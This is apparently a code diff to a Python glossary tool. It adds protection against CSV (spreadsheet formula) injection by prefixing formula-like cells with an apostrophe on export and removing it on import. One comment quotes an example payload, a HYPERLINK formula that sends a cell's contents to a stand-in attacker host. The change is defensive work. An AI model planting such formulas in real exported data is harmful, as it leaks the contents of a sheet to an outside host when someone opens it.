@@ -135,8 +135,38 @@ def export_columns(glossaries: list[Glossary]) -> list[str]:
     return list(ACRONYM_COLUMNS)
 
 
+#: A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
+#: (OWASP's list for CSV injection): ``=HYPERLINK("http://evil.example/?"&A1)`` in a
+#: contributed entry would run when a panel member opens the sheet.
+_FORMULA_START = frozenset("=+-@\t\r")
+
+
+def _formula_like(cell: str) -> bool:
+    """Starts (after any apostrophes) with a character that makes a spreadsheet formula."""
+    rest = cell.lstrip("'")
+    return bool(rest) and rest[0] in _FORMULA_START
+
+
+def neutralise(cell: str) -> str:
+    """``'`` before a formula-like cell, as spreadsheets recommend: shown as text, never run.
+
+    A cell that already starts with apostrophes before such a character gets one more,
+    so ``restore`` gives every cell back exactly.
+    """
+    return "'" + cell if _formula_like(cell) else cell
+
+
+def restore(cell: str) -> str:
+    """Undo ``neutralise`` (the apostrophe is removed only where export put one)."""
+    return cell[1:] if cell.startswith("'") and _formula_like(cell[1:]) else cell
+
+
 def export_csv(glossaries: list[Glossary]) -> bytes:
-    """Every entry and acronym of the glossaries as CSV bytes (UTF-8 with BOM, Excel's CRLF rows)."""
+    """Every entry and acronym of the glossaries as CSV bytes (UTF-8 with BOM, Excel's CRLF rows).
+
+    Cells that a spreadsheet would run as formulas are neutralised (``neutralise``);
+    ``read_csv`` undoes it.
+    """
     columns = export_columns(glossaries)
     empty = dict.fromkeys(columns, "")
     out = io.StringIO()
@@ -144,9 +174,9 @@ def export_csv(glossaries: list[Glossary]) -> bytes:
     writer.writeheader()
     for glossary in glossaries:
         for entry in glossary.entries:
-            writer.writerow(entry_row(entry, glossary))
+            writer.writerow({k: neutralise(v) for k, v in entry_row(entry, glossary).items()})
         for acronym in glossary.acronyms:
-            writer.writerow({**empty, **acronym_row(acronym, glossary)})
+            writer.writerow({k: neutralise(v) for k, v in {**empty, **acronym_row(acronym, glossary)}.items()})
     return out.getvalue().encode("utf-8-sig")
 
 
@@ -226,7 +256,7 @@ def read_csv(data: bytes, path: str, default_category: str = "") -> ImportResult
                 result.problems.append(f"{path}: row {number} has more cells than there are column headings "
                                        f"(move the text in column {_letter(len(names))} into the right column)")
                 continue
-            padded = cells + [""] * (len(names) - len(cells))
+            padded = [restore(c) for c in cells] + [""] * (len(names) - len(cells))
             rows.append((number, {name: padded[i] for i, name in enumerate(names) if name}))
     except csv.Error as exc:
         raise GlossaryError(f"this spreadsheet cannot be read: {exc}", path=path,
